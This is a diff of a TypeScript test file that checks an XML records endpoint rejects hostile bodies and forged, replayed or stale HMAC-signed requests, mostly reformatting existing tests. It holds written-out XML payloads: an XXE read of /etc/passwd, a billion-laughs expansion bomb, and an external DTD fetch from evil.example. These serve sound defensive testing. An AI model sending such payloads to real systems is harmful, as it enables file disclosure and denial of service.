@@ -225,8 +225,13 @@ describe('hostile bodies', () => {
     const before = await count('state_records');
     const seq = await lastSeq();
     const docs: Record<string, string> = {
-      XXE: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><record><stateStudentId>&x;</stateStudentId></record>',
-      'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><record><stateStudentId>&lol9;</stateStudentId></record>`,
+      XXE:
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM ' +
+        '"file:///etc/passwd">]><record><stateStudentId>&x;</stateStudentId></record>',
+      'billion laughs':
+        `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
+        Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
+        ']><record><stateStudentId>&lol9;</stateStudentId></record>',
       'parameter entity':
         '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><record/>',
       'entity without DOCTYPE': '<record><!ENTITY x "y"><stateStudentId>1</stateStudentId></record>',
@@ -272,66 +277,70 @@ describe('hostile bodies', () => {
 });
 
 describe('SIF_HMACSHA256', () => {
-  it('accepts a signature once; refuses its replay, a stale timestamp and a forged signature, storing nothing and auditing each', async () => {
-    const ts = new Date().toISOString();
-    const headers = {
-      authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, ts),
-      timestamp: ts,
-      'content-type': 'application/xml',
-    };
-    const first = await lab.inject({
-      method: 'POST',
-      url: '/lab/states/TX/records',
-      payload: '<record><stateStudentId>HMAC-1</stateStudentId></record>',
-      headers,
-    });
-    expect(first.statusCode).toBe(201);
-    const before = await count('state_records');
-    const seq = await lastSeq();
-    const old = new Date(Date.now() - 3600_000).toISOString();
-    const attempts = {
-      replay: headers,
-      'stale timestamp': {
-        ...headers,
-        authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, old),
-        timestamp: old,
-      },
-      'timestamp changed after signing': { ...headers, timestamp: new Date(Date.now() + 1000).toISOString() },
-      'wrong secret': {
-        ...headers,
-        authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', 'guess', new Date().toISOString()),
-        timestamp: new Date().toISOString(),
-      },
-      'no timestamp': { authorization: headers.authorization, 'content-type': 'application/xml' },
-      'scheme not accepted by the route': {
-        ...headers,
-        authorization: sifAuthorization('Basic', 'tx-session', SIF_SECRET),
-      },
-    };
-    for (const [name, h] of Object.entries(attempts)) {
-      const r = await lab.inject({
+  it(
+    'accepts a signature once; refuses its replay, a stale timestamp and a forged signature, storing ' +
+      'nothing and auditing each',
+    async () => {
+      const ts = new Date().toISOString();
+      const headers = {
+        authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, ts),
+        timestamp: ts,
+        'content-type': 'application/xml',
+      };
+      const first = await lab.inject({
         method: 'POST',
         url: '/lab/states/TX/records',
-        payload: '<record><stateStudentId>HMAC-2</stateStudentId></record>',
-        headers: h,
+        payload: '<record><stateStudentId>HMAC-1</stateStudentId></record>',
+        headers,
       });
-      expect(r.statusCode, name).toBe(401);
-    }
-    expect(await count('state_records')).toBe(before);
-    expect(await audited('access.denied', seq)).toBe(Object.keys(attempts).length);
-    const why = await sys.db.query<{ why: string }>(
-      `SELECT details->>'why' AS why FROM audit_events WHERE action = 'access.denied' AND seq > $1 ORDER BY seq`,
-      [seq],
-    );
-    expect(why.rows.map((r) => r.why)).toEqual([
-      'replayed',
-      'stale-timestamp',
-      'bad-signature',
-      'bad-signature',
-      'missing-timestamp',
-      'bad-scheme',
-    ]);
-  });
+      expect(first.statusCode).toBe(201);
+      const before = await count('state_records');
+      const seq = await lastSeq();
+      const old = new Date(Date.now() - 3600_000).toISOString();
+      const attempts = {
+        replay: headers,
+        'stale timestamp': {
+          ...headers,
+          authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', SIF_SECRET, old),
+          timestamp: old,
+        },
+        'timestamp changed after signing': { ...headers, timestamp: new Date(Date.now() + 1000).toISOString() },
+        'wrong secret': {
+          ...headers,
+          authorization: sifAuthorization('SIF_HMACSHA256', 'tx-session', 'guess', new Date().toISOString()),
+          timestamp: new Date().toISOString(),
+        },
+        'no timestamp': { authorization: headers.authorization, 'content-type': 'application/xml' },
+        'scheme not accepted by the route': {
+          ...headers,
+          authorization: sifAuthorization('Basic', 'tx-session', SIF_SECRET),
+        },
+      };
+      for (const [name, h] of Object.entries(attempts)) {
+        const r = await lab.inject({
+          method: 'POST',
+          url: '/lab/states/TX/records',
+          payload: '<record><stateStudentId>HMAC-2</stateStudentId></record>',
+          headers: h,
+        });
+        expect(r.statusCode, name).toBe(401);
+      }
+      expect(await count('state_records')).toBe(before);
+      expect(await audited('access.denied', seq)).toBe(Object.keys(attempts).length);
+      const why = await sys.db.query<{ why: string }>(
+        `SELECT details->>'why' AS why FROM audit_events WHERE action = 'access.denied' AND seq > $1 ORDER BY seq`,
+        [seq],
+      );
+      expect(why.rows.map((r) => r.why)).toEqual([
+        'replayed',
+        'stale-timestamp',
+        'bad-signature',
+        'bad-signature',
+        'missing-timestamp',
+        'bad-scheme',
+      ]);
+    },
+  );
 });
 
 describe('injection strings', () => {
